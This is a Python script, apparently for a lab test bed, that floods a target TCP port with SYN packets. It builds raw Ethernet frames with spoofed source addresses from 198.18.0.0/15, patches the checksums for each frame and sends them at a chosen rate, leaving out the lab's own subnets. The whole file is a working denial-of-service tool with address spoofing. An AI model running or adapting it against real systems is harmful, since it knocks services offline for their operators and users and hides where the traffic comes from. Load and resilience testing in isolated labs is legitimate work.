"""Floods a port with SYNs that a server of this wire format accepts, from random addresses of 198.18.0.0/15.

usage: syn-flood.py INTERFACE MAC TARGET PORT RATE SECONDS SEED     MAC: of the next host
Never from 198.18.1.0/24 and 198.18.2.0/24, where the lab's own hosts are.
"""
import ipaddress
import itertools
import random
import socket
import struct
import sys

from wire import RawLink, folded, ip_header, report, tcp_octets, word_sum

RING = 262_144
RANGE = int(ipaddress.ip_address("198.18.0.0")), 1 << 17
LAB = range(RANGE[0] + 256, RANGE[0] + 3 * 256)
SYN = 2
WINDOW_SCALE = b"\x01\x03\x03\x0e"


def floods(link, target, port, count):
    """Ready frames, each from another address and port; sequence 0, or the server would refuse it out of hand."""
    nobody = socket.inet_aton("198.18.0.0")
    segment = tcp_octets(nobody, target, (0, port), (0, 0), SYN, options=WINDOW_SCALE)
    frame = bytearray(link.frame(ip_header(nobody, target, len(segment)) + segment))
    ip = len(frame) - len(segment) - 20
    own = word_sum(nobody)
    ip_blank, tcp_blank = (struct.unpack_from("!H", frame, at)[0] ^ 0xFFFF for at in (ip + 10, ip + 36))
    made = []
    while len(made) < count:
        address = RANGE[0] + random.getrandbits(17)
        if address in LAB:
            continue
        source_port = random.randint(1_024, 65_535)
        words = (address >> 16) + (address & 0xFFFF) + (own ^ 0xFFFF)
        struct.pack_into("!H", frame, ip + 10, folded(ip_blank + words) ^ 0xFFFF)
        struct.pack_into("!IIHH", frame, ip + 12, address, int.from_bytes(target, "big"), source_port, port)
        struct.pack_into("!H", frame, ip + 36, folded(tcp_blank + words + source_port) ^ 0xFFFF)
        made.append(bytes(frame))
    return made


if __name__ == "__main__":
    interface, mac, target, port, rate, seconds, seed = sys.argv[1:]
    random.seed(int(seed))
    link = RawLink(interface, mac)
    count = int(rate) * int(seconds)
    ready = floods(link, socket.inet_aton(target), int(port), min(count, RING))
    print("shooting", flush=True)
    report(link.shoot(itertools.cycle(ready), int(rate), count, int(seconds)))
